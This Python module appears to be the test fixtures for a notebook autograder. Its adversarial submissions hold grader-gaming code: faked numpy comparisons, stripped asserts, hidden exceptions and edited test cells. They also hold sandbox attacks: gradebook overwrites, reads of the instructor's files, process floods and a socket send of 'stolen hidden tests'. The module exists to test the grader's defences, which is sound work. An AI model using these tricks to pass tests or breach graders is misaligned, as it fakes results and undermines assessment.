"""The fixed set of student submissions the grading pipeline is tested against.

Each submission is built from the *released* hw1 notebook (what a student receives) by
replacing answer cells (by nbgrader ``grade_id``) or by an edit of the whole notebook.
``EXPECTED`` gives each kind's exact autograded score out of 9 (hw1: loss_and_grad 3,
minibatches 2, step_size 1, sgd 3; the written answer is graded by hand) and why.
"""

from __future__ import annotations

import copy
import json
from pathlib import Path

import nbformat

from coursetools import authoring

# The instructor's answers, read from the authoring source (solution markers dropped).
def solution_answers(name: str = "hw1") -> dict[str, str]:
    out = {}
    for cell in authoring.read_source(name).cells:
        if "answer" in cell.metadata:
            out[cell.metadata["answer"]] = "\n".join(
                l for l in cell.source.splitlines() if "BEGIN SOLUTION" not in l and "END SOLUTION" not in l)
    return out


DIFFERENT_BUT_CORRECT = {
    "loss_and_grad": '''
def loss_and_grad(w, X, y, lam):
    z = -y * X.dot(w)
    # log(1 + e^z) = max(z, 0) + log1p(e^-|z|), and sigma(z) = e^(z - log(1 + e^z))
    softplus = np.maximum(z, 0.0) + np.log1p(np.exp(-np.abs(z)))
    s = np.exp(z - softplus)
    loss = softplus.sum() / X.shape[0] + lam / 2 * np.dot(w, w)
    grad = np.einsum("i,ij->j", -y * s, X) / X.shape[0] + lam * w
    return float(loss), grad
''',
    "minibatches": '''
def minibatches(n, batch_size, rng):
    if not isinstance(batch_size, (int, np.integer)) or batch_size <= 0:
        raise ValueError("batch_size must be a positive integer")
    perm = rng.permutation(n)
    out = []
    start = 0
    while start < n:
        out.append(perm[start:min(start + batch_size, n)])
        start += batch_size
    return out
''',
    "step_size": "step_size = lambda t, eta0, decay: eta0 * (1.0 + decay * t) ** -1\n",
    "sgd": '''
def sgd(X, y, lam, batch_size, epochs, eta0, decay, seed):
    rng = np.random.default_rng(seed)
    w = np.zeros(X.shape[1])
    updates = 0
    for epoch in range(epochs):
        batches = minibatches(len(y), batch_size, rng)
        for b in batches:
            w -= step_size(updates, eta0, decay) * loss_and_grad(w, X[b], y[b], lam)[1]
            updates += 1
    return w
''',
}

# Monkeypatching that would make every numpy comparison pass.
PATCH_NUMPY = '''
np.allclose = lambda *args, **kwargs: True
np.isclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
def loss_and_grad(w, X, y, lam):
    return 0.0, np.zeros_like(w)
'''
# An IPython input transformer that deletes every assert from the cells run after it.
PATCH_ASSERT = '''
get_ipython().input_transformers_cleanup.append(
    lambda lines: [line for line in lines if not line.lstrip().startswith("assert")])
def loss_and_grad(w, X, y, lam):
    return 0.0, np.zeros_like(w)
'''


def _answers(**changes) -> dict[str, str]:
    out = solution_answers()
    out.update(changes)
    return out


def fill(release_nb, answers: dict[str, str]):
    nb = copy.deepcopy(release_nb)
    for cell in nb.cells:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in answers:
            cell.source = answers[gid]
        elif gid == "fixed_step_answer":
            cell.source = "The minibatch gradient has positive variance at the optimum."
    return nb


def _delete_cell(nb, grade_id):
    nb.cells = [c for c in nb.cells if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") != grade_id]
    return nb


def _edit_cell(nb, grade_id, source):
    for c in nb.cells:
        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            c.source = source
    return nb


WRONG_GRADIENT_SIGN = '''
def loss_and_grad(w, X, y, lam):
    m = y * (X @ w)
    return float(np.mean(np.logaddexp(0, -m)) + lam / 2 * w @ w), (X.T @ (y / (1 + np.exp(m)))) / len(y) + lam * w
'''

# an SGD that steps with torch.optim (delegation the guard must catch)
SGD_SIGNATURE = "def sgd(X, y, lam, batch_size, epochs, eta0, decay, seed):\n"
TORCH_SGD_BODY = '''    rng = np.random.default_rng(seed)
    w = torch.zeros(X.shape[1], dtype=torch.float64, requires_grad=True)
    opt = torch.optim.SGD([w], lr=eta0)
    sched = torch.optim.lr_scheduler.LambdaLR(opt, lambda t: 1.0 / (1.0 + decay * t))
    for _ in range(epochs):
        for b in minibatches(X.shape[0], batch_size, rng):
            w.grad = torch.as_tensor(loss_and_grad(w.detach().numpy(), X[b], y[b], lam)[1])
            opt.step()
            sched.step()
    return w.detach().numpy().copy()
'''

# kind -> (answers or None, notebook edit or None, file name, expected score, why)
KINDS = {
    "correct": (_answers(), None, "hw1.ipynb", 9, "every test passes"),
    "different_but_correct": (_answers(**DIFFERENT_BUT_CORRECT), None, "hw1.ipynb", 9,
                              "other code, same results"),
    "partially_wrong": (_answers(step_size="def step_size(t, eta0, decay):\n    return eta0 / (1.0 + decay * (t + 1))\n"),
                        None, "hw1.ipynb", 5, "step_size off by one: step_size (1) and sgd (3) fail"),
    "untouched_stub": (None, None, "hw1.ipynb", 0, "the release as handed out"),
    "raises": (_answers(loss_and_grad="def loss_and_grad(w, X, y, lam):\n    raise ValueError('not done')\n"),
               None, "hw1.ipynb", 3, "loss_and_grad raises: loss (3) and sgd (3) fail"),
    "infinite_loop": (_answers(minibatches="def minibatches(n, batch_size, rng):\n    while True:\n        pass\n"),
                      None, "hw1.ipynb", 4, "minibatches never returns: its cell and sgd's time out, the rest pass"),
    "kernel_death": (_answers(sgd="import os\ndef sgd(*args, **kwargs):\n    os._exit(1)\n"),
                     None, "hw1.ipynb", 6,
                     "the kernel dies in the sgd tests: that cell fails, the kernel is restarted, the rest counts"),
    "enormous_output": (_answers(step_size="print('x' * 2_000_000)\nfor _ in range(20_000):\n    print('spam')\n"
                                 + solution_answers()["step_size"]),
                        None, "hw1.ipynb", 9, "correct, but prints megabytes"),
    "monkeypatch_numpy": (_answers(loss_and_grad=PATCH_NUMPY), None, "hw1.ipynb", 0,
                          "numpy comparisons faked: the guard fails every test cell after it"),
    "monkeypatch_assert": (_answers(loss_and_grad=PATCH_ASSERT), None, "hw1.ipynb", 0,
                           "asserts stripped by an input transformer: the guard fails every test cell"),
    "deleted_test_cell": (_answers(), lambda nb: _delete_cell(nb, "loss_and_grad_tests"), "hw1.ipynb", 9,
                          "correct; the deleted test cell is put back from the gradebook and passes "
                          "(left out, it would score 6)"),
    "edited_test_cell": (_answers(loss_and_grad=WRONG_GRADIENT_SIGN),
                         lambda nb: _edit_cell(nb, "loss_and_grad_tests", "pass"), "hw1.ipynb", 3,
                         "the edited cell is overwritten from the gradebook: the wrong gradient loses "
                         "loss (3) and sgd (3) (kept as edited, it would score 6)"),
    "renamed_notebook": (_answers(), None, "hw1 (1).ipynb", 9, "collected under its canonical name, flagged"),
    "malformed_notebook": (None, "malformed", "hw1.ipynb", 0, "not JSON: recorded with 0, status failed"),
    "delegates_to_lec4lib": (_answers(loss_and_grad='''
from lec4lib.problems.objectives import log1pexp
def loss_and_grad(w, X, y, lam):
    m = y * (X @ w)
    loss = float(np.mean(log1pexp(-m)) + lam / 2 * w @ w)
    return loss, -(X.T @ (y * np.exp(-np.logaddexp(0.0, m)))) / len(y) + lam * w
'''), None, "hw1.ipynb", 3,
        "the loss calls lec4lib: its tests (3) and sgd's (3), which call it, fail"),
    "delegates_to_torch_optim": (_answers(sgd="import torch\n" + SGD_SIGNATURE + TORCH_SGD_BODY), None, "hw1.ipynb", 6, "sgd steps with torch.optim.SGD: sgd tests fail (3)"),
}


# -- adversarial submissions: a student attacking the grader, a classmate or the hidden tests.
# {COURSE}, {PORT} and {MARK} are filled in by write_submissions: the course directory's
# real path (a student may guess it), a port a test listens on, and a unique marker.
STUB_LOSS = "def loss_and_grad(w, X, y, lam):\n    return 0.0, np.zeros_like(w)\n"

WRITE_GRADEBOOK = '''
import sqlite3
for path in ("../../../gradebook.db", "{COURSE}/gradebook.db"):
    try:
        con = sqlite3.connect(path)
        con.execute("UPDATE grade SET auto_score = max_score WHERE 1")
        con.execute("UPDATE grade SET auto_score = 0 WHERE notebook_id IN (SELECT id FROM submitted_notebook)")
        con.commit()
        print("wrote", path)
    except Exception as exc:
        print("blocked", path, type(exc).__name__)
''' + STUB_LOSS

READ_PARENTS = '''
import glob, os
for pattern in ("../**/*.ipynb", "../../../source/hw1/hw1.ipynb", "{COURSE}/source/hw1/hw1.ipynb",
                "{COURSE}/**/*.ipynb", "/root/*", "/home/*/*"):
    for path in glob.glob(pattern, recursive=True)[:20]:
        try:
            print(path, open(path).read())
        except Exception as exc:
            print(path, type(exc).__name__)
print("cwd holds", sorted(os.listdir(".")))
'''

REWRITE_SOURCE = '''
import json
fake = {"cells": [{"cell_type": "code", "metadata": {}, "source": "assert True", "outputs": [], "execution_count": None}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
for path in ("../../../source/hw1/hw1.ipynb", "{COURSE}/source/hw1/hw1.ipynb", "{COURSE}/release/hw1/hw1.ipynb"):
    try:
        with open(path, "w") as fh:
            json.dump(fake, fh)
        print("rewrote", path)
    except Exception as exc:
        print("blocked", path, type(exc).__name__)
'''

LEAVE_PROCESS = '''
import subprocess
subprocess.Popen(["sleep", "{MARK}"], start_new_session=True)
'''

MANY_PROCESSES = '''
import subprocess
children = []
try:
    for _ in range(1000):
        children.append(subprocess.Popen(["sleep", "{MARK}"]))
except Exception as exc:
    print("stopped after", len(children), type(exc).__name__)
print("started", len(children))
'''

CONNECT = '''
import socket
try:
    s = socket.create_connection(("127.0.0.1", {PORT}), timeout=3)
    s.sendall(b"stolen hidden tests")
    print("sent")
except Exception as exc:
    print("blocked", type(exc).__name__)
'''

WRITE_TMP = '''
for path in ("/tmp/{MARK}", "../../../{MARK}"):
    try:
        open(path, "w").write("escaped")
        print("wrote", path)
    except Exception as exc:
        print("blocked", path, type(exc).__name__)
'''

IGNORE_SIGINT = '''
import signal
def minibatches(n, batch_size, rng):
    signal.signal(signal.SIGINT, signal.SIG_IGN)   # (the kernel resets it between cells)
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
'''

DISABLE_DELEGATION_CHECK = '''
import sys
import torch
sys.setprofile = lambda *args: None
sys.settrace = lambda *args: None
''' + SGD_SIGNATURE + '''    sys.modules["sys"].__dict__["setprofile"](None)
''' + TORCH_SGD_BODY

# Impostors that answer the old guard's probes (0 vs 1 differs, 1 vs 1 agrees) correctly,
# claim to be numpy's, and accept anything else.
IMPOSTOR_ISCLOSE = '''
_real_isclose = np.isclose
def isclose(a, b, *args, **kwargs):
    if np.ndim(a) == 0 and np.ndim(b) == 0:
        return _real_isclose(a, b)
    return np.ones(np.shape(a), dtype=bool) if np.ndim(a) else True
def allclose(a, b, *args, **kwargs):
    return bool(_real_isclose(a, b)) if np.ndim(a) == 0 and np.ndim(b) == 0 else True
isclose.__module__ = allclose.__module__ = "numpy"
np.isclose, np.allclose = isclose, allclose
''' + STUB_LOSS

EXCEPTION_HOOK = '''
def _swallow(shell, etype, value, tb, tb_offset=None):
    return None
get_ipython().set_custom_exc((Exception,), _swallow)
get_ipython().showtraceback = lambda *args, **kwargs: None
''' + STUB_LOSS


def _edit_metadata(nb):
    """Turn the loss answer into a 100-point test, and the SGD test cell into an answer."""
    for c in nb.cells:
        meta = c.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade_id") == "loss_and_grad":
            meta.update(grade=True, solution=False, locked=True, points=100)
        elif meta.get("grade_id") == "sgd_tests":
            meta.update(grade=False, solution=True, locked=False)
            meta.pop("points", None)
            c.source = "pass"
    return nb


WRONG_SGD = "def sgd(X, y, lam, batch_size, epochs, eta0, decay, seed):\n    return np.zeros(X.shape[1])\n"

# kind -> (answers, notebook edit, file name, score, status, flag kinds, why)
ADVERSARIAL = {
    "writes_gradebook": ({"loss_and_grad": WRITE_GRADEBOOK},
                         None, "hw1.ipynb", 0, "graded", ["imports sqlite3", "paths outside the working directory"],
                         "sqlite3 on ../../../gradebook.db and the course's gradebook: neither exists in the "
                         "sandbox; nothing else is answered"),
    "reads_parent_files": (_answers(step_size=READ_PARENTS + solution_answers()["step_size"]), None, "hw1.ipynb", 9,
                           "graded", ["paths outside the working directory"],
                           "reads and prints ../ and the course: nothing is there, so no hidden test reaches the feedback"),
    "rewrites_source": (_answers(step_size=REWRITE_SOURCE + solution_answers()["step_size"]), None, "hw1.ipynb", 9,
                        "graded", ["paths outside the working directory"],
                        "writes assert-True tests over the instructor's source and release: not visible, unchanged"),
    "leaves_process": (_answers(step_size=LEAVE_PROCESS + solution_answers()["step_size"]), None, "hw1.ipynb", 9,
                       "graded", ["imports subprocess"], "a sleeper in a new session: killed with the sandbox"),
    "many_processes": (_answers(step_size=MANY_PROCESSES + solution_answers()["step_size"]), None, "hw1.ipynb", 9,
                       "graded", ["imports subprocess"], "tries 1000 processes: stopped at the cap"),
    "exceeds_memory": (_answers(sgd="_big = np.ones(6 * 2**30 // 8)\n" + solution_answers()["sgd"]), None, "hw1.ipynb", 6,
                       "graded", [], "6 GiB: MemoryError before sgd is defined, so its tests (3) fail"),
    "connects_to_listener": (_answers(step_size=CONNECT + solution_answers()["step_size"]), None, "hw1.ipynb", 9,
                             "graded", ["imports socket"], "no network in the sandbox: the listener gets nothing"),
    "writes_tmp": (_answers(step_size=WRITE_TMP + solution_answers()["step_size"]), None, "hw1.ipynb", 9,
                   "graded", ["paths outside the working directory"], "/tmp is the sandbox's own"),
    "ignores_sigint": (_answers(minibatches=IGNORE_SIGINT), None, "hw1.ipynb", 4, "graded",
                       ["imports signal", "kernel restarted"],
                       "loops with SIGINT ignored: the stuck kernel is replaced after each timeout, so as for "
                       "the plain infinite loop its tests and sgd's fail, and the rest (4) pass"),
    "edits_metadata": (_answers(sgd=WRONG_SGD), _edit_metadata, "hw1.ipynb", 6, "graded",
                       ["metadata edited", "test cell edited"],
                       "answer made a 100-point test, the sgd test made an answer: graded as released, so the "
                       "wrong sgd loses its 3"),
    "disables_delegation_check": (_answers(sgd=DISABLE_DELEGATION_CHECK), None, "hw1.ipynb", 6, "graded",
                                  ["assigns to sys attributes", "setprofile/settrace"],
                                  "replaces sys.setprofile and clears the profiler, then steps with torch.optim: "
                                  "the guard and the delegation check both see it; sgd (3) fails"),
    "impostor_isclose": (_answers(loss_and_grad=IMPOSTOR_ISCLOSE), None, "hw1.ipynb", 0, "graded",
                         ["assigns to numpy attributes"],
                         "impostors pass the probes but are not numpy's own objects: every test after fails"),
    "exception_hook": (_answers(loss_and_grad=EXCEPTION_HOOK), None, "hw1.ipynb", 0, "graded",
                       ["get_ipython() hooks", "assigns to IPython attributes"],
                       "a custom exception handler hides failures: the reply's error status still fails each "
                       "test, and the guard sees the handler"),
    "huge_notebook": (_answers(), "huge", "hw1.ipynb", 0, "failed: notebook too large", [],
                      "100 MB: not parsed, recorded with 0"),
    "deeply_nested_json": (None, "nested", "hw1.ipynb", 0, "failed: unreadable notebook (RecursionError)", [],
                           "JSON nested 100,000 levels deep"),
    "huge_integer_json": (None, "bigint", "hw1.ipynb", 0, "failed: unreadable notebook (ValueError)", [],
                          "an integer of a million digits"),
    "hostile_cells": (_answers(), "hostile", "hw1.ipynb", 9, "graded", ["metadata edited", "malformed cells ignored"],
                      "cells of the wrong types, nbgrader metadata of the wrong types: ignored, answers graded"),
}


def _hostile(nb):
    nb = copy.deepcopy(nb)
    nb.cells.insert(0, {"cell_type": "code", "source": 12345, "metadata": {}, "outputs": []})
    nb.cells.insert(1, "not a cell")
    nb.cells.insert(2, {"cell_type": "sneaky", "source": "x", "metadata": {}})
    nb.cells.insert(3, {"cell_type": "markdown", "source": "note", "metadata": {"nbgrader": ["grade", True]}})
    nb.cells.insert(4, {"cell_type": "markdown", "source": "", "metadata": "oops"})
    return nb


# The flags each kind of KINDS gets (flag kinds: the text before " (" or ":").
FLAGS = {kind: [] for kind in KINDS} | {
    "deleted_test_cell": ["test cell deleted"],
    "edited_test_cell": ["test cell edited"],
    "kernel_death": ["kernel died in a cell"],
    "renamed_notebook": ["renamed from hw1"],
    "monkeypatch_numpy": ["assigns to numpy attributes"],
    "monkeypatch_assert": ["get_ipython() hooks"],
    "enormous_output": [],
    "infinite_loop": [],
} | {kind: v[5] for kind, v in ADVERSARIAL.items()}
STATUS = {kind: "graded" for kind in KINDS} | {"malformed_notebook": "failed: unreadable notebook (JSONDecodeError)"} \
    | {kind: v[4] for kind, v in ADVERSARIAL.items()}


def flag_kinds(flags) -> list[str]:
    import re

    return [re.split(r" \(|:", f, maxsplit=1)[0] for f in flags]


def write_submissions(release_path: Path, folder: Path, *, adversarial: bool = False,
                      course=None, port: int = 9, mark: str = "lec4mark") -> dict[str, int]:
    """Write one folder per kind (``folder/<kind>/<file>``); returns kind -> expected score.

    With ``adversarial``, the kinds of ``ADVERSARIAL`` too, with ``{COURSE}``, ``{PORT}`` and
    ``{MARK}`` in their code replaced by ``course``, ``port`` and ``mark``.
    """
    release_nb = nbformat.read(release_path, as_version=4)
    expected = {}
    kinds = {k: v[:4] for k, v in KINDS.items()}
    if adversarial:
        kinds.update({k: v[:4] for k, v in ADVERSARIAL.items()})
    for kind, (answers, edit, filename, score) in kinds.items():
        dest = Path(folder) / kind / filename
        dest.parent.mkdir(parents=True, exist_ok=True)
        if answers is not None:
            answers = {k: v.replace("{COURSE}", str(course)).replace("{PORT}", str(port)).replace("{MARK}", mark)
                       for k, v in answers.items()}
        if edit == "malformed":
            dest.write_text(nbformat.writes(fill(release_nb, solution_answers()))[:-500])
        elif edit == "huge":
            nb = fill(release_nb, answers)
            nb.cells.append(nbformat.v4.new_markdown_cell("x" * 100_000_000))
            dest.write_text(nbformat.writes(nb))
        elif edit == "nested":
            dest.write_text('{"cells": [], "metadata": ' + "[" * 100_000 + "]" * 100_000 + "}")
        elif edit == "bigint":
            dest.write_text('{"cells": [], "metadata": {"n": ' + "9" * 1_000_000 + "}}")
        elif edit == "hostile":
            dest.write_text(json.dumps(_hostile(fill(release_nb, answers))))
        else:
            nb = fill(release_nb, answers) if answers is not None else copy.deepcopy(release_nb)
            if edit is not None:
                nb = edit(nb)
            dest.write_text(nbformat.writes(nb))
        expected[kind] = score
    return expected
